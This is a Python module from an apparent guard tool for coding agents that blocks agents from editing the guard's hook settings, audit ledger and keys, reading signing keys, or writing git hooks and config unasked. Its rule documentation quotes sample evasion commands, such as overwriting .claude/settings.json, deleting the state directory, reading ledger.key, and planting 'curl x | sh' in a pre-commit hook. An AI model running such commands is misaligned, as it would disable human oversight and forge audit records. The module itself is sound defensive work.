"""Protected paths: the guard's own files, project-protected globs, git internals.

The agent must not be able to switch the guard off: the hook settings, the Codex hook
config and the guidance state directory (keys, ledger, cache, spool) cannot be written by
any tool or shell command, and the keys cannot be read.
"""

from __future__ import annotations

import os

from cf_guidance.decision import ASK, DENY
from cf_guidance.event import READ, WRITE
from cf_guidance.gates._base import PARANOID, STRICT, Rule
from cf_guidance.gates.commands import Args, describe, resolver, resolver_at
from cf_guidance.gates.commands.files import file_effects, may_touch_files
from cf_guidance.gates.commands.git import split as git_split
from cf_guidance.gates.commands.summary import summary
from cf_guidance.gates.patterns import path_matches
from cf_guidance.gates.reasons import doc, finding
from cf_guidance._glob import _match_segment
from cf_guidance.paths import SCRATCH, glob_base, has_glob

TYPE_CHECKING = False
if TYPE_CHECKING:
    from cf_guidance.decision import Finding
    from cf_guidance.gates._base import GateContext
    from cf_guidance.gates.commands.summary import Summary
    from cf_guidance.paths import Resolver
    from cf_guidance.shell.model import Command

GATE = "protected-paths"

RULES = (
    Rule("PTH001", "guard-file-write", DENY, "Changing the guard's own files",
         doc("Denies every write to `.claude/settings.json`, `.claude/settings.local.json`, `.codex/hooks.json`, "
             "`.codex/config.toml` (in the project and in the home directory) and anything under the guidance state "
             "directory `.claude-flow/guidance/` (keys, ledger, cache, spool): by Write/Edit/MultiEdit/NotebookEdit/"
             "apply_patch, by shell redirection, `tee`, `cp`/`mv`/`ln` onto them, `sed -i`, `rm`, `chmod`, `truncate`, "
             "`git checkout`, editors, inline programs that name them, deleting or moving a directory that holds them, "
             "and `cf-guidance init`/`uninstall` run by the agent. Symlinks are followed.",
             "An agent that can edit the hook settings or the ledger can switch the guard off or erase its record.",
             "echo '{}' > .claude/settings.json\nrm -rf .claude-flow\nsed -i 's/PreToolUse/x/' .claude/settings.json",
             "# ask the user to change the guard's settings")),
    Rule("PTH002", "guard-key-read", DENY, "Reading the guard's keys",
         doc("Denies reading anything under `.claude-flow/guidance/keys/` with any tool.",
             "The ledger key signs the audit trail; whoever reads it can forge records.",
             "cat .claude-flow/guidance/keys/ledger.key", "cf-guidance ledger verify")),
    Rule("PTH003", "protected-write", DENY, "Writing a path the project protects",
         doc("Denies writes (file tools and shell) to globs listed in the bundle's `settings.protect_write`.",
             "The project declared these files off limits for the agent.", "echo x > vendor/lib.js", "# edit files outside the protected globs")),
    Rule("PTH004", "protected-read", DENY, "Reading a path the project protects",
         doc("Denies reads (file tools and shell) of globs listed in the bundle's `settings.protect_read`.",
             "The project declared these files private.", "cat private/notes.md", "# ask the user for what you need")),
    Rule("PTH005", "git-internals-write", ASK, "Writing .git/hooks or .git/config",
         doc("Asks before writing `.git/hooks/**` or `.git/config`.",
             "Git hooks run code on every commit; git config can point `core.hooksPath` or `core.sshCommand` anywhere.",
             "echo 'curl x | sh' > .git/hooks/pre-commit", "# ask the user to install git hooks")),
    Rule("PTH006", "write-outside-project", ASK, "File tool writes outside the project (strict and paranoid levels)",
         doc("At the strict level asks, at paranoid denies, when Write/Edit/MultiEdit/NotebookEdit/apply_patch target a path "
             "outside the project and temp directories. The standard level does not check this.",
             "Files outside the project belong to the user and other projects.", "Write ~/.bashrc", "Write ./notes.md")),
)

#: Guard files, relative to the project root and to the home directory (lower case).
GUARD_FILES = frozenset((".claude/settings.json", ".claude/settings.local.json", ".codex/hooks.json", ".codex/config.toml"))
STATE_DIR = ".claude-flow/guidance"
KEYS_DIR = STATE_DIR + "/keys"
#: Directories whose removal or move takes guard files with them.
GUARD_PARENTS = frozenset((".claude", ".codex", ".claude-flow", STATE_DIR))
_REMOVERS = frozenset(("rm", "rmdir", "mv", "shred", "unlink", "trash", "trash-put", "srm"))
_DESTROYERS = _REMOVERS | frozenset(("chmod", "chown", "chgrp", "chattr"))
#: Programs that only look at the files they are given.
_LOOKERS = frozenset(("cat", "less", "more", "head", "tail", "grep", "egrep", "fgrep", "rg", "ls", "stat", "file", "wc", "diff", "jq", "bat", "git", "echo", "printf", "test", "[", "realpath", "readlink", "dirname", "basename", "sha256sum", "md5sum", "shasum", "find", "tree", "du", "cf-guidance"))
#: All start with ".c" (_shell relies on it for a cheap first test).
_GUARD_MARKERS = (".claude/settings", ".claude-flow/guidance", ".codex/hooks.json", ".codex/config.toml")
_GIT_READS = frozenset(("diff", "log", "show", "status", "add", "commit", "blame", "ls-files", "grep", "check-ignore"))


#: Basenames whose symlinks are followed even on reads (cheap: no syscall for other names).
_GUARD_NAMES = frozenset(("settings.json", "settings.local.json", "hooks.json", "config.toml", "ledger.key"))


def _rels(paths: Resolver, path: str, *, write: bool = False) -> list[str]:
    """Lower-cased project- and home-relative forms of `path`, literal and with symlinks followed.

    Following symlinks costs syscalls, so it is done for guard-file names and key files, and for
    writes whose last component is a link; a link the agent creates is caught by `ln` itself.
    """
    out: list[str] = []
    if has_glob(path):
        path = _glob_target(paths, path)
        if not path:
            return out
    literal = paths.resolve(path)
    if literal is None:
        return out
    candidates = [literal]
    name = literal.rsplit("/", 1)[-1].lower()
    # A link adds its target below only when that differs from the literal path: when this event
    # already followed the path's links and found none, there is nothing to ask the file system.
    if name in _GUARD_NAMES or name.endswith(".key") or (write and paths.known_real(literal) != literal and _is_link(literal)):
        real = paths.resolve(path, real=True)
        if real is not None and real != literal:
            candidates.append(real)
    for where in candidates:
        for rel in paths.relatives(where):
            if rel is not None:
                rel = rel.lower()
                if rel not in out:
                    out.append(rel)
        state = _state_override(paths, where)
        if state and state not in out:
            out.append(state)
    return out


_GUARD_NAME_ENDS = tuple("/" + name for name in _GUARD_NAMES)


def _may_be_key(paths: Resolver, path: str) -> bool:
    """False only when no form `_rels` gives of a read `path` is a key target; checked on the
    resolved path without the relative forms, links or the $GUIDANCE_STATE_DIR look-up.

    Every project- or home-relative form is a suffix of the resolved path, and a key target
    holds ".claude-flow/guidance/keys"; a moved state directory's form holds what follows the
    state directory, which for a key target starts with "/keys". Either way the resolved path
    holds "/keys" (any case). A link is followed only for guard names and `.key` files, and
    globs stand for other paths: those take the full check.
    """
    if has_glob(path):
        return True
    literal = paths.resolve(path)
    if literal is None:
        return False  # _rels gives nothing for a dynamic path
    lowered = literal.lower()
    return "/keys" in lowered or ".key" in lowered or lowered.endswith(_GUARD_NAME_ENDS)


#: Top-level entries that hold guard files (all dot-names: a plain `*` never matches them).
_GUARD_TOPS = (".claude", ".codex", ".claude-flow")


def _glob_target(paths: Resolver, path: str) -> str:
    """The guard-relevant path a glob stands for, or "" when it cannot reach a guard file.

    `.claude/*` stands for `.claude`; `*.log` or `./*` in the project root cannot match a dot
    directory, but `.*` and `.c*` can, and then stand for the entry they would match.
    """
    base = glob_base(path)
    where = paths.resolve(base)
    if where is None:
        return ""
    first = next(segment for segment in path.split("/") if has_glob(segment))
    if where in (paths.root, paths.home):
        for top in _GUARD_TOPS:
            # the shell's globs skip dot-names unless the pattern itself starts with a dot
            if first.startswith(".") and _match_segment(first, top):
                return where + "/" + top
        return ""
    return base


def _is_link(path: str) -> bool:
    try:
        return os.path.islink(path)
    except (OSError, ValueError):
        return False


def _state_override(paths: Resolver, where: str) -> str:
    state = _moved_state_dir(paths.root)
    if state and (where == state or where.startswith(state + "/")):
        return STATE_DIR + where[len(state):].lower()
    return ""


_moved: tuple[str, str, str] = ("", "", "")


def _moved_state_dir(root: str) -> str:
    """The state directory when `$GUIDANCE_STATE_DIR` moves it, else "" (cached per value and root)."""
    global _moved
    override = os.environ.get("GUIDANCE_STATE_DIR", "")
    if not override:
        return ""
    moved = _moved
    if moved[0] != override or moved[1] != root:
        from cf_guidance.state import state_dir

        moved = _moved = (override, root, state_dir(root))
    return moved[2]


def guard_target(rel: str) -> bool:
    return rel in GUARD_FILES or rel == STATE_DIR or rel.startswith(STATE_DIR + "/")


def key_target(rel: str) -> bool:
    return rel == KEYS_DIR or rel.startswith(KEYS_DIR + "/")


def check(ctx: GateContext) -> list[Finding]:
    event = ctx.event
    settings = ctx.bundle.get("settings") or {}
    protect_write = settings.get("protect_write") or []
    protect_read = settings.get("protect_read") or []
    out: list[Finding] = []
    for path, access in event.paths:
        if not path:
            continue
        paths = resolver(ctx)
        segment = f"{event.tool} {path}"
        if access == WRITE:
            _write(paths, path, segment, protect_write, out, tool=event.tool)
            if ctx.level in (STRICT, PARANOID):
                # The literal place decides (following links costs syscalls on every write).
                _, kind = paths.where(path, real=False)
                if kind and kind not in SCRATCH:
                    verdict = DENY if ctx.level == PARANOID else ASK
                    out.append(finding(GATE, "PTH006", verdict, f"{event.tool} writes {path}, outside the project", segment=segment, evidence=path))
        elif access == READ:
            _read(paths, path, segment, protect_read, out, tool=event.tool)
    if event.command is not None:
        found = summary(ctx)
        if found is not None and (not PREFILTER or _any_may_matter(found)):
            for cmd in found.analysis.commands:
                if PREFILTER and not _may_matter(cmd):
                    continue
                _shell(resolver_at(ctx, cmd), cmd, protect_write, protect_read, out)
    return out


def _write(paths: Resolver, path: str, segment: str, globs: list[str], out: list[Finding], *, tool: str, parents: bool = False, root: bool = False) -> bool:
    rels = _rels(paths, path, write=True)
    for rel in rels:
        if guard_target(rel) or (parents and rel in GUARD_PARENTS) or (root and rel == "."):
            out.append(finding(GATE, "PTH001", DENY, f"{tool} would change the guard's own file {path}", segment=segment, evidence=path))
            return True
    for rel in rels:
        if rel == ".git/config" or rel.startswith(".git/hooks/") or rel == ".git/hooks":
            out.append(finding(GATE, "PTH005", ASK, f"{tool} writes {path}", segment=segment, evidence=path))
            break
    if globs:  # most projects protect no extra paths
        _match_globs(paths, path, globs, "PTH003", f"{tool} writes the protected path {path}", segment, out)
    return False


def _read(paths: Resolver, path: str, segment: str, globs: list[str], out: list[Finding], *, tool: str) -> None:
    if not PREFILTER or _may_be_key(paths, path):
        for rel in _rels(paths, path):
            if key_target(rel):
                out.append(finding(GATE, "PTH002", DENY, f"{tool} would read the guard's key {path}", segment=segment, evidence=path))
                break
    if globs:
        _match_globs(paths, path, globs, "PTH004", f"{tool} reads the protected path {path}", segment, out)


def _match_globs(paths: Resolver, path: str, globs: list[str], code: str, message: str, segment: str, out: list[Finding]) -> None:
    for pattern in globs:
        if isinstance(pattern, str) and path_matches(paths, pattern, path):
            out.append(finding(GATE, code, DENY, message, segment=segment, evidence=path))
            return


#: Tests switch this off to prove the pre-filter skips only commands without findings.
PREFILTER = True


def _may_matter(cmd: Command) -> bool:
    """False only when `_shell` finds nothing: not cf-guidance, no file read or written, and no
    word or inline code that could name a guard file (every marker holds ".c", any case)."""
    if cmd.program == "cf-guidance" or may_touch_files(cmd):
        return True
    code = cmd.code
    for text in cmd.argv:
        if ".c" in text or ".C" in text:
            return True
    return ".c" in code or ".C" in code


def _any_may_matter(found: Summary) -> bool:
    """`_may_matter` OR-ed over all commands: False lets the gate skip the loop."""
    return found.files or found.dot_c or "cf-guidance" in found.programs


def _shell(paths: Resolver, cmd: Command, protect_write: list[str], protect_read: list[str], out: list[Finding]) -> None:
    segment = describe(cmd)
    program = cmd.program
    if program == "cf-guidance" and Args(cmd.args).positionals[:1] in (["uninstall"], ["init"]):
        out.append(finding(GATE, "PTH001", DENY, f"the agent may not run cf-guidance {cmd.args[0]}", segment=segment))
        return
    reads, writes = file_effects(cmd)
    if program == "ln":
        writes = writes + reads  # a link to a guard file is a way to write it later
    if writes:
        parents = program in _DESTROYERS or program in ("cp", "install", "rsync", "ln", "tar", "unzip")
        for target in writes:
            if _write(paths, target, segment, protect_write, out, tool=program, parents=parents, root=program in _REMOVERS):
                return
    for target in reads:
        _read(paths, target, segment, protect_read, out, tool=program)
    if program in _LOOKERS and not (program == "git" and _git_sub(cmd) not in _GIT_READS):
        return
    # Anything else handed a guard file (an unknown tool, an inline program) is treated as a write.
    texts = list(cmd.args)
    if cmd.code:
        texts.append(cmd.code)
    if ".c" not in "\n".join(texts).lower():
        return  # every marker starts with ".c": one scan of all texts instead of one per marker and text
    for text in texts:
        lowered = text.lower()
        if any(marker in lowered for marker in _GUARD_MARKERS) and text not in writes:
            out.append(finding(GATE, "PTH001", DENY, f"{program} is given the guard's own file {text[:80]}", segment=segment, evidence=text))
            return


def _git_sub(cmd: Command) -> str:
    return git_split(cmd.args)[0]
